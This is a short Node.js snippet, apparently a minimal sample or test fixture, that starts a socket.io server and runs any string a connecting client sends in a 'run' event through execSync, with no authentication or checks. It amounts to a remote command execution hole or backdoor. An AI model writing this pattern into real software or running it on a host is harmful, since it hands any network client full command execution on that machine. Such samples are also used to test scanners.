import { execSync } from "node:child_process";
import { Server } from 'socket.io';
const io = new Server(1);
io.on('connection', (socket) => {
  socket.on('run', (m, cb) => {
    execSync(m.a);
  });
});
